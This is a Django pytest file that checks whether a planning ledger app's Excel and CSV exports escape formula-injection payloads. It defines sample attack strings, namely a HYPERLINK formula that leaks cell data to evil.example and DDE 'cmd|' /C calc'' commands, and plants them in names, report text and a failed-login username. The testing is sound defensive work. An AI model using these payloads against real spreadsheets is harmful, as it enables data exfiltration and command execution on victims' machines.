"""Formula injection (issue 13, finding 6): every cell of every spreadsheet a user can download — the ledger
.xlsx (web and CLI), the scorecards .xlsx, the audit CSV, the CLI's indicator and records CSVs — is text
that Excel/WPS will not run. The probe's three payloads: a report text ``=HYPERLINK(…)``, a task title
``=cmd|' /C calc'!A0`` and a failed-login username. Numbers (negative ones too) stay numbers, and the ledger
Excel round trip still sees no change in an untouched escaped cell."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from yigai.apps.ledger import excel_import
from yigai.apps.ledger.excel_export import ledger_export
from yigai.apps.ledger.models import LedgerItem
from yigai.apps.ledger.services import progress_report_submit
from yigai.core.cells import TRIGGERS

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
CALC = "=cmd|' /C calc'!A0"
USERNAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def _live(value: object) -> bool:
    return isinstance(value, str) and value[:1] in TRIGGERS


def _xlsx_cells(data: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}: {cell.value}"
                cells.append(cell.value)
    return cells


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@pytest.fixture
def plan(orgunits, fake_document):
    """The test plan with task T1's title and text set to the probe's payload (as an import could bring)."""
    import dataclasses

    from yigai.apps.plans.services import plan_store_document
    from yigai.apps.publishing import plan_publish

    doc = fake_document()
    tasks = (dataclasses.replace(doc.tasks[0], title=CALC, text=CALC), *doc.tasks[1:])
    p = plan_store_document(document=dataclasses.replace(doc, tasks=tasks), content_hash="formulas")
    plan_publish(plan=p)
    return p


@pytest.fixture
def poisoned(plan, users, t1) -> LedgerItem:
    from yigai.apps.units.models import Unit

    Unit.objects.filter(name="市医疗保障局").update(name="+cmd|' /C calc'!A0")
    Unit.objects.filter(name="市卫生健康委").update(name="-2+3+cmd|' /C calc'!A0")
    progress_report_submit(item=t1.pk, user=users["lead"], text=HYPERLINK, percent=10,
                           expected_version=t1.version)  # fmt: skip
    return LedgerItem.objects.get(pk=t1.pk)


def _ledger_web(client: Client, plan, users, make_user) -> list[object]:
    client.force_login(users["owner"])
    return _xlsx_cells(client.get(f"/ledger/plan/{plan.pk}/export.xlsx").content)


def _ledger_service(client: Client, plan, users, make_user) -> list[object]:
    return _xlsx_cells(ledger_export(plan=plan, user=users["lead"])[1])


def _scorecards(client: Client, plan, users, make_user) -> list[object]:
    client.force_login(users["leader"])
    return _xlsx_cells(client.get("/dashboard/scorecards/export/?by=unit").content)


def _audit_csv(client: Client, plan, users, make_user) -> list[object]:
    from django_otp import DEVICE_ID_SESSION_KEY
    from django_otp.plugins.otp_totp.models import TOTPDevice

    Client().post("/login/", {"username": USERNAME, "password": "wrong"})  # a failed login, recorded
    from yigai.apps.audit.services import audit_record

    audit_record(actor=USERNAME, action="auth.login_failed", result="failed", details={"note": HYPERLINK})
    auditor = make_user("auditor1", "audit_admin", "130000")
    device = TOTPDevice.objects.create(user=auditor, name="t", confirmed=True)
    client.force_login(auditor)
    session = client.session
    session[DEVICE_ID_SESSION_KEY] = device.persistent_id
    session.save()
    response = client.get("/audit/?format=csv")
    assert response.status_code == 200
    cells = _csv_cells(response.content.decode("utf-8"))
    assert any(USERNAME in c for c in cells)
    return cells


EXPORTS = {"ledger-web": _ledger_web, "ledger-service": _ledger_service, "scorecards": _scorecards,
           "audit-csv": _audit_csv}  # fmt: skip


@pytest.mark.parametrize("export", EXPORTS)
def test_no_cell_of_any_export_is_a_formula(poisoned, plan, users, client, make_user, export) -> None:
    cells = EXPORTS[export](client, plan, users, make_user)
    assert cells, "nothing exported"
    live = [c for c in cells if _live(c)]
    assert live == [], f"{export}: cells that Excel would run: {live[:5]}"
    if export.startswith("ledger"):
        assert f"'{HYPERLINK}" in cells and any(CALC in str(c) for c in cells)  # escaped, not dropped


def test_numbers_stay_numbers(plan, users, t1) -> None:
    cells = _xlsx_cells(ledger_export(plan=plan, user=users["owner"])[1])
    assert any(isinstance(c, int) and not isinstance(c, bool) for c in cells)


def test_round_trip_of_an_escaped_cell_sees_no_change(poisoned, plan, users) -> None:
    """Export (the report text is escaped) → import untouched: no change; edit another cell: only that."""
    lead = users["lead"]
    data = ledger_export(plan=plan, user=lead)[1]
    preview = excel_import.preview(user=lead, file_name="t.xlsx", data=data)
    assert preview.errors == [] and preview.changes == []
    from openpyxl import load_workbook as load

    from yigai.apps.ledger.excel_layout import HEADER_ROW, HEADERS, SHEET

    book = load(io.BytesIO(data))
    ws = book[SHEET]
    col = {h: i + 1 for i, h in enumerate(HEADERS)}
    row = next(
        r for r in range(HEADER_ROW + 1, ws.max_row + 1) if ws.cell(r, col["台账编号"]).value == poisoned.code
    )
    ws.cell(row, col["完成进度（%）"]).value = 30
    out = io.BytesIO()
    book.save(out)
    (change,) = excel_import.preview(user=lead, file_name="t.xlsx", data=out.getvalue()).changes
    assert [f.field for f in change.changes] == ["完成进度（%）"]


def test_command_line_csv_outputs_are_neutralised(capsys) -> None:
    """The CLI's CSV outputs (indicator values and target status, records aggregates, standards gaps) go
    through the same helper: a text cell never starts a formula, numbers stay numbers."""
    from yigai.cli import indicators, records

    indicators._emit([{"indicator": CALC, "org_unit": "130600", "period": "2023", "value": -2.5}],
                     indicators.VALUE_COLUMNS, "values", "csv")  # fmt: skip
    row = next(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["indicator"] == f"'{CALC}" and row["value"] == "-2.5"
    text = records._csv([{"level": "county", "org_unit": "130602", "name": USERNAME, "data_element": "X",
                          "period": "2024", "value": "<5"}])  # fmt: skip
    cells = _csv_cells(text)
    assert f"'{USERNAME}" in cells and not any(_live(c) for c in cells) and "<5" in cells
